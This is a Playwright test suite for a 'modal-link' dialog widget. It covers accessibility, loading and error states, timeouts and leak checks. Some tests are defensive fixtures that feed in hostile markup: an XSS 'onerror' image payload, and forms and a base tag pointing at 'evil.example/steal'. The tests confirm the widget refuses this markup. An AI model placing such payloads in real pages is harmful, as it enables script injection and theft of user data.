import {
  atRest,
  DESKTOP,
  expect,
  expectNoAxeViolations,
  expectNothingLeft,
  holdRequests,
  installLeakCounters,
  MOBILE,
  test,
  waitForEnhanced,
} from '../../test/support/fixtures';
import { pauseClock } from '../../test/support/clock';

const PAGE = '/widgets/modal-link';

test.describe('modal-link', { tag: '@react' }, () => {
  // axe and leak cycles on a shared, loaded machine need more than the default 30 s.
  test.describe.configure({ timeout: 90_000 });
  for (const viewport of [DESKTOP, MOBILE]) {
    test(`a modal link shows only the linked page's node content in a dialog at ${viewport.width} px`, async ({
      page,
    }) => {
      await page.setViewportSize(viewport);
      await page.goto(PAGE);
      // Clicked before their lazy chunk has run, links simply navigate (the no-JS behaviour).
      await waitForEnhanced(page, 'a.modal');
      const link = page.getByRole('link', { name: 'Investor FAQ' });
      await expect(link).toHaveAttribute('href', /investor-faq/);
      await link.click();
      const dialog = page.getByRole('dialog', { name: 'Investor FAQ' });
      await expect(dialog).toBeVisible();
      await expect(dialog.getByRole('heading', { name: 'Who do I contact?' })).toBeVisible();
      // Only the node content: not the page title, sidebar or footer of the loaded page.
      await expect(dialog.getByText('Sidebar chrome')).toHaveCount(0);
      await expect(dialog.getByText('Demo data: the company')).toHaveCount(0);
      await expect(dialog.getByRole('heading', { level: 1 })).toHaveText('Investor FAQ');
      await expect(dialog.getByRole('heading', { level: 1 })).toBeFocused();
      await expect(page).toHaveURL(/\/widgets\/modal-link$/);
      // Sized to the content area, at most 95% of the viewport high.
      const [box, main] = await Promise.all([
        dialog.boundingBox(),
        page.locator('main').boundingBox(),
      ]);
      expect(Math.abs(box!.width - Math.min(main!.width, viewport.width - 16))).toBeLessThan(2);
      expect(box!.height).toBeLessThanOrEqual(viewport.height * 0.95 + 1);
      // No duplicate ids: the FAQ's "contact" id exists on this page too.
      const ids = await page.evaluate(() => {
        const all = [...document.querySelectorAll('[id]')].map((el) => el.id);
        return all.filter((id, i) => all.indexOf(id) !== i);
      });
      expect(ids).toEqual([]);
      await expect(dialog.getByRole('link', { name: 'Back to this question' })).toHaveAttribute(
        'href',
        /^#contact--modal-\d+$/,
      );
      await expect(dialog.getByLabel('Your question')).toBeVisible();
      await expectNoAxeViolations(page);
      // Escape closes it and focus returns to the link.
      await page.keyboard.press('Escape');
      await expect(dialog).toBeHidden();
      await expect(link).toBeFocused();
      // Opening it again shows the loaded content at once.
      await link.press('Enter');
      await expect(dialog.getByRole('heading', { name: 'Who do I contact?' })).toBeVisible();
      await dialog.getByRole('button', { name: 'Close' }).click();
      await expect(link).toBeFocused();
    });
  }

  test('while loading the dialog is busy and says so; Tab stays inside', async ({ page }) => {
    // Hold the response until the loading state has been checked.
    const release = await holdRequests(page, '**/pages/board-of-directors?fault=slow');
    await page.goto(PAGE);
    await waitForEnhanced(page, 'a.modal');
    await page.getByRole('link', { name: 'Board of directors (slow)' }).click();
    const dialog = page.getByRole('dialog', { name: 'Board of directors (slow)' });
    await expect(dialog.getByRole('status')).toHaveText('Loading…');
    await expect(dialog.locator('.modal-link__content')).toHaveAttribute('aria-busy', 'true');
    await expect(dialog.getByRole('button', { name: 'Close' })).toBeFocused();
    await page.keyboard.press('Tab');
    await expect(dialog.getByRole('button', { name: 'Close' })).toBeFocused();
    await expectNoAxeViolations(page);
    release();
    // Loaded: the dialog is named after the loaded page.
    const loaded = page.getByRole('dialog', { name: 'Board of directors', exact: true });
    await expect(loaded.getByText('Nine directors')).toBeVisible();
    await expect(loaded.locator('.modal-link__content')).not.toHaveAttribute('aria-busy', /.*/);
  });

  test('a failed load shows an error with a way to the page, never a blank dialog', async ({
    page,
    consoleEntries,
  }) => {
    await page.goto(PAGE);
    await waitForEnhanced(page, 'a.modal');
    await page.getByRole('link', { name: 'Board of directors (the server fails)' }).click();
    const dialog = page.getByRole('dialog', { name: 'Board of directors (the server fails)' });
    const alert = dialog.getByRole('alert');
    await expect(alert).toContainText('The content could not be loaded.');
    await expect(alert.getByRole('link', { name: 'Open the page instead' })).toHaveAttribute(
      'href',
      /board-of-directors\?fault=500$/,
    );
    await expect(dialog.getByRole('button', { name: 'Close' })).toBeFocused();
    expect(consoleEntries.some((e) => e.type === 'warning' && /HTTP 500/.test(e.text))).toBe(true);
    await expectNoAxeViolations(page);
  });

  test('a page without node content and a network failure both end in the error', async ({
    page,
  }) => {
    await page.goto(PAGE);
    await waitForEnhanced(page, 'a.modal');
    await page.getByRole('link', { name: 'A page without node content' }).click();
    await expect(page.getByRole('dialog').getByRole('alert')).toBeVisible();
    await page.keyboard.press('Escape');
    await page.route('**/pages/investor-faq', (route) => route.abort('connectionreset'));
    await page.getByRole('link', { name: 'Investor FAQ' }).click();
    await expect(
      page.getByRole('dialog', { name: 'Investor FAQ' }).getByRole('alert'),
    ).toContainText('The content could not be loaded.');
  });

  test('a modal link to another origin is refused: it stays a plain link', async ({
    page,
    consoleEntries,
  }) => {
    await page.route('https://partners.example.com/**', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: '<title>Partner</title><h1>Partner FAQ</h1>',
      }),
    );
    await page.goto(PAGE);
    await expect.poll(() => consoleEntries.some((e) => /another origin/.test(e.text))).toBe(true);
    await page.getByRole('link', { name: 'Partner FAQ (another site)' }).click();
    await expect(page).toHaveURL('https://partners.example.com/investors/faq');
    await expect(page.getByRole('dialog')).toHaveCount(0);
  });

  test("opened again, the dialog keeps the loaded page's title, not the link's text", async ({
    page,
  }) => {
    await page.goto(PAGE);
    await page.evaluate(() =>
      document
        .querySelector('main ul')!
        .insertAdjacentHTML(
          'beforeend',
          '<li><a class="modal" href="/widgets/modal-link/pages/investor-faq">Read more</a></li>',
        ),
    );
    const link = page.getByRole('link', { name: 'Read more' });
    await expect(link).toHaveAttribute('data-enhanced', '');
    await link.click();
    await expect(page.getByRole('dialog', { name: 'Investor FAQ' })).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toHaveCount(0);
    await link.click();
    await expect(page.getByRole('dialog', { name: 'Investor FAQ' })).toBeVisible();
  });

  test('a link that redirects to another site is not loaded: its markup never reaches the page', async ({
    page,
  }) => {
    await page.goto(PAGE);
    await waitForEnhanced(page, 'a.modal');
    // A same-origin shortlink whose redirect lands on a site that lets any origin read it: the
    // browser's answer then says redirected, with the other site's URL.
    await page.evaluate(() => {
      const real = window.fetch;
      window.fetch = async (input, init) => {
        if (!String(input).endsWith('/pages/investor-faq')) return real(input, init);
        const response = new Response(
          '<main><div class="node__content"><p>Foreign text</p></div></main>',
          { headers: { 'content-type': 'text/html' } },
        );
        Object.defineProperty(response, 'redirected', { value: true });
        Object.defineProperty(response, 'url', { value: 'https://elsewhere.example/faq' });
        return response;
      };
    });
    await page.getByRole('link', { name: 'Investor FAQ' }).click();
    const dialog = page.getByRole('dialog');
    await expect(dialog.getByRole('alert')).toContainText('The content could not be loaded.');
    await expect(dialog).not.toContainText('Foreign text');
  });

  test('a link a script points at another origin after it was enhanced is followed, never fetched', async ({
    page,
  }) => {
    const fetched: string[] = [];
    // A site that lets any origin read it: fetched, its markup would run in this page.
    await page.route('https://partners.example.com/**', (route) => {
      if (route.request().resourceType() === 'fetch') fetched.push(route.request().url());
      return route.fulfill({
        contentType: 'text/html',
        headers: { 'access-control-allow-origin': '*' },
        body: '<h1>Elsewhere</h1><div class="node__content"><img src=x onerror="window.__pwned=1"></div>',
      });
    });
    await page.goto(PAGE);
    await waitForEnhanced(page, 'a.modal');
    const link = page.getByRole('link', { name: 'Investor FAQ' });
    await link.evaluate((a) => a.setAttribute('href', 'https://partners.example.com/faq'));
    await link.click();
    await expect(page).toHaveURL('https://partners.example.com/faq');
    expect(fetched).toEqual([]);
  });

  test("a loaded page's base, meta, link, title and off-site forms never reach this page", async ({
    page,
  }) => {
    await page.route('**/pages/investor-faq', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<h1>Investor FAQ</h1><div class="node__content">
          <base href="https://evil.example/"><meta name="referrer" content="unsafe-url">
          <link rel="stylesheet" href="/demo-assets/none.css"><title>Owned</title>
          <form id="away" action="https://evil.example/steal"><input name="q"></form>
          <form id="here" action="/search"><input name="q" aria-label="Search">
            <button id="leak" formaction="//evil.example/steal">Send elsewhere</button></form>
          <svg role="img" aria-label="Chart"><title>Chart</title></svg><p>Loaded text</p></div>`,
      }),
    );
    await page.goto(PAGE);
    await waitForEnhanced(page, 'a.modal');
    const base = await page.evaluate(() => document.baseURI);
    const title = await page.title();
    await page.getByRole('link', { name: 'Investor FAQ' }).click();
    const dialog = page.getByRole('dialog', { name: 'Investor FAQ' });
    await expect(dialog.getByText('Loaded text')).toBeVisible();
    expect(await page.evaluate(() => document.baseURI)).toBe(base);
    expect(await page.title()).toBe(title);
    expect(
      await dialog.evaluate((el) => el.querySelectorAll('base, meta, link, #away, #leak').length),
    ).toBe(0);
    await expect(dialog.locator('form#here')).toHaveCount(1);
    await expect(dialog.locator('svg title')).toHaveText('Chart');
  });

  test('a page that never answers ends in the error after the request timeout (30 s by default)', async ({
    page,
  }) => {
    await page.clock.install();
    await page.goto(PAGE);
    await waitForEnhanced(page, 'a.modal');
    // Never answered: the route is held until the page closes.
    await page.route('**/pages/investor-faq', () => {});
    await pauseClock(page);
    await page.getByRole('link', { name: 'Investor FAQ' }).click();
    const dialog = page.getByRole('dialog', { name: 'Investor FAQ' });
    await expect(dialog.getByRole('status')).toHaveText('Loading…');
    await page.clock.runFor(29_000);
    await expect(dialog.getByRole('status')).toHaveText('Loading…');
    await page.clock.runFor(1_000);
    await expect(dialog.getByRole('alert')).toContainText('The content could not be loaded.');
    await expect(dialog.getByRole('link', { name: 'Open the page instead' })).toBeVisible();
    await expect(dialog.locator('.modal-link__content')).not.toHaveAttribute('aria-busy', /.*/);
  });

  test('a modified click opens the page normally; without JavaScript the link navigates', async ({
    page,
    browser,
  }) => {
    await page.goto(PAGE);
    await waitForEnhanced(page, 'a.modal');
    // Shift+click is the browser's "open in a new window": the widget leaves it to the browser
    // (the click reaches the end of its path not cancelled) and opens no dialog here. The test
    // cancels it there itself: the new window is the browser's, and the headless shell of
    // Chromium 150 now and then crashes a new window's renderer, its opener's with it.
    await page.evaluate(() =>
      window.addEventListener(
        'click',
        (event) => {
          (window as unknown as { leftToBrowser: boolean }).leftToBrowser = !event.defaultPrevented;
          event.preventDefault();
        },
        { once: true },
      ),
    );
    await page.getByRole('link', { name: 'Investor FAQ' }).click({ modifiers: ['Shift'] });
    expect(
      await page.evaluate(() => (window as unknown as { leftToBrowser?: boolean }).leftToBrowser),
    ).toBe(true);
    await atRest(page);
    await expect(page.getByRole('dialog')).toHaveCount(0);
    const context = await browser.newContext({ javaScriptEnabled: false });
    const plain = await context.newPage();
    await plain.goto(PAGE);
    await plain.getByRole('link', { name: 'Investor FAQ' }).click();
    await expect(plain).toHaveURL(/\/pages\/investor-faq$/);
    await expect(plain.getByRole('heading', { level: 1, name: 'Investor FAQ' })).toBeVisible();
    await context.close();
  });

  test('inserting, opening and removing links 100 times leaves nothing behind', async ({
    page,
  }) => {
    await installLeakCounters(page);
    await page.goto(PAGE);
    await waitForEnhanced(page, 'a.modal');
    await page.getByRole('link', { name: 'Investor FAQ' }).click();
    await expect(page.getByRole('dialog', { name: 'Investor FAQ' })).toBeVisible();
    await page.keyboard.press('Escape');
    const cycle = (n: number) =>
      page.evaluate(async (count) => {
        for (let i = 0; i < count; i++) {
          const link = document.createElement('a');
          link.className = 'modal';
          link.href = '/widgets/modal-link/pages/board-of-directors';
          link.textContent = `Board ${i}`;
          document.querySelector('main')!.append(link);
          if (!(await window.__whenEnhanced(link))) throw new Error(`cycle ${i}: not enhanced`);
          link.click();
          const dialog = document.querySelector<HTMLDialogElement>('dialog[open]');
          if (!dialog) throw new Error('no dialog');
          await new Promise<void>((resolve) => {
            const check = () =>
              dialog.querySelector('[aria-busy]') ? setTimeout(check, 5) : resolve();
            check();
          });
          dialog.querySelector<HTMLButtonElement>('.ui-dialog-titlebar-close')!.click();
          link.remove();
          await new Promise((r) => setTimeout(r, 0));
        }
        return {
          stats: window.trellisInternals!.stats(),
          dialogs: document.querySelectorAll('dialog').length,
        };
      }, n);
    await expectNothingLeft(page, cycle, { warmUp: 10, rounds: 100, nodes: 200 });
  });
});
